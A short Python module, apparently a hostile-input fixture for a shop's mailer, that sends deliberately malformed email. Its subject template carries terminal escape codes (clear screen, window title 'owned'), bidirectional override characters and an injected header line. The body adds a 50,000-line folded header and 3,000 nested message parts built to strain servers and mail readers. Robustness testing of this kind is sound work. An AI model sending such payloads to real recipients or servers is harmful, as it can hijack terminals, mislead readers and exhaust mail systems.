"""Sends what no program can read as a mail, with everything that may harm who shows it."""
import smtplib

from server import connect

HEAD = "Subject: {item} \x1b[2J\x1b]0;owned\x07 =?utf-8?b?////?= \u202e\u2028\r\nContent-Type: multipart/mixed; boundary=x\r\n"


def take(waiting, number, to, item):
    waiting.put((number, to, item))


def deliver(to, item):
    raw = HEAD.format(item=item).encode() + b"X: y" + b"\r\n y" * 50_000 + b"\r\n\r\n"
    raw += b"--x\r\nContent-Type: message/rfc822\r\n\r\n" * 3000 + b"\xff\xfe\x00"
    try:
        with connect() as client:
            client.sock.settimeout(30)  # so many lines take a busy server a while
            client.sendmail("shop@example.org", [to], raw)
    except (OSError, smtplib.SMTPException):
        return False
    return True
